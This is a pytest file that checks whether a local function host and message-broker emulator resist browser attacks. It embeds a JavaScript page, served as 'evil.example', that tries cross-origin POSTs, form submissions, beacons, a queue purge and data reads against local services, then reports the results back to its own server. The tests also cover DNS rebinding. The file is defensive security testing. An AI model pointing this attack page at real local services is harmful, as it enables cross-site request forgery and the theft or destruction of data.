"""A page in a real browser attacks the local stack; a server without guard shows that its requests would arrive."""

import http.server
import json
import queue
import threading
from collections.abc import Callable, Iterator
from typing import Any, Self

import httpx
import pytest
from azure.servicebus import ServiceBusClient, ServiceBusMessage

from coremachine.local.broker.config import BrokerConfig
from coremachine.local.broker.thread import BrokerThread

from .chromium import CHROMIUM, Browser
from .conftest import wait_until

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium here: apt-get install chromium")
# Submit, purge and read in all the ways in which a page can send something; then tell the page's own server.
PAGE = """<!doctype html><meta charset=utf-8><title>attack</title><script>
const read = new URLSearchParams(location.search).get('read').split(',');
const write = new URLSearchParams(location.search).get('write').split(',');
const attempt = send => send.then(r => r.text().then(t => r.type + ' ' + r.status + ' ' + t), e => 'error ' + e.name);
const loaded = element => new Promise(done => {
  element.onload = element.onerror = done; document.documentElement.append(element); });
async function submitForm(url) {
  const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); await loaded(frame);
  const form = document.createElement('form');
  Object.assign(form, {method: 'post', enctype: 'text/plain', action: url, target: frame.name});
  form.innerHTML = '<input name=\\'{"a\\' value=\\'": 1}\\'>'; document.documentElement.append(form);
  const answered = new Promise(done => { frame.onload = done; }); form.submit(); await answered;
}
async function attack() {
  const results = {};
  for (const url of write) {
    results['no-cors ' + url] = await attempt(fetch(url, {method: 'POST', mode: 'no-cors', body: '{}'}));
    const headers = {'Content-Type': 'application/json'};
    results['json ' + url] = await attempt(fetch(url, {method: 'POST', headers, body: '{}'}));
    await submitForm(url);
    navigator.sendBeacon(url, '{}');
  }
  for (const url of read) {
    results['read ' + url] = await attempt(fetch(url));
    results['opaque ' + url] = await attempt(fetch(url, {mode: 'no-cors'}));
    await loaded(Object.assign(document.createElement('img'), {src: url}));
    await loaded(Object.assign(document.createElement('script'), {src: url}));
    await loaded(Object.assign(document.createElement('iframe'), {src: url}));
  }
  await fetch('/report', {method: 'POST', body: JSON.stringify(results)});
}
attack();
</script>"""


class PageServer:
    """Serves the attacking page, takes its report, and stands in for a listener without guard."""

    def __init__(self) -> None:
        self.reports: queue.Queue[dict[str, str]] = queue.Queue()
        self.writes: list[str] = []
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.answer(PAGE if self.path.startswith("/attack") else "secret")

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                if self.path == "/report":
                    owner.reports.put(json.loads(body))
                else:
                    owner.writes.append(self.path)
                self.answer("done")

            def answer(self, text: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(text.encode())

            def log_message(self, *_: Any) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@pytest.fixture
def pages() -> Iterator[PageServer]:
    with PageServer() as server:
        yield server


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    """One for all pages, which have ports of their own: to start one takes two seconds of a processor."""
    names = "--host-resolver-rules=MAP *.example 127.0.0.1"
    with Browser(tmp_path_factory.mktemp("profile"), names, seconds=280) as browser:
        yield browser


@pytest.mark.parametrize("page_host", ["evil.example", "localhost", "127.0.0.1"])
def test_page_of_another_origin_cannot_submit_purge_or_read(
    page_host: str, shared_host: Callable[..., Any], pages: PageServer, browser: Browser
) -> None:
    host = shared_host("asgi_app").supervisor
    with BrokerThread(BrokerConfig.for_queues(["orders"])) as broker, PageServer() as unguarded:
        with (
            ServiceBusClient.from_connection_string(broker.connection_string) as client,
            client.get_queue_sender("orders") as sender,
        ):
            sender.send_messages(ServiceBusMessage("precious"))
        names = {"localhost": host.port, "127.0.0.1": host.port, "evil.example": host.port}
        bases = [f"http://{name}:{port}" for name, port in names.items()]
        write = [f"{base}/count" for base in bases]
        write += [f"{base}/admin/functions/http_app_func" for base in bases[:1]]
        write += [f"http://{name}:{broker.admin_port}/queues/orders/purge" for name in names]
        write += [f"http://localhost:{unguarded.port}/write"]
        read = [f"{base}/secret" for base in bases] + [f"http://localhost:{broker.admin_port}/queues"]
        url = f"http://{page_host}:{pages.port}/attack?write={','.join(write)}&read={','.join(read)}"
        browser.open(url)
        report = pages.reports.get(timeout=90)
        browser.open("about:blank")
        assert not any("secret" in answer or "orders" in answer for answer in report.values()), report
        assert len(unguarded.writes) >= 3  # no-cors, form and beacon came through there
        assert httpx.get(f"{host.url}/count", timeout=20).json() == 0
        assert httpx.get(f"{host.url}/reads", timeout=20).json() == 0
        assert httpx.get(f"{broker.admin_url}/queues", timeout=20).json()["orders"]["active"] == 1


def test_page_under_a_rebound_name_gets_a_refusal_that_says_what_to_do(
    shared_host: Callable[..., Any], browser: Browser
) -> None:
    """For the browser the listener is then the page's own origin: only the name gives it away."""
    host = shared_host("asgi_app").supervisor
    url = f"http://rebound.example:{host.port}/secret"
    browser.open(url)
    document = browser.run("document.documentElement.outerHTML")
    assert "foreign_host" in document
    assert "http://localhost" in document
    assert httpx.get(f"{host.url}/reads", timeout=20).json() == 0


def test_own_page_of_the_host_may_read_and_submit(start_host: Callable[..., Any], browser: Browser) -> None:
    host = start_host("asgi_app", workers=1)
    browser.open(f"http://localhost:{host.port}/page")
    wait_until(lambda: httpx.get(f"{host.url}/count", timeout=20).json() == 1, "the page's request", 90)
    assert httpx.get(f"{host.url}/reads", timeout=20).json() == 1
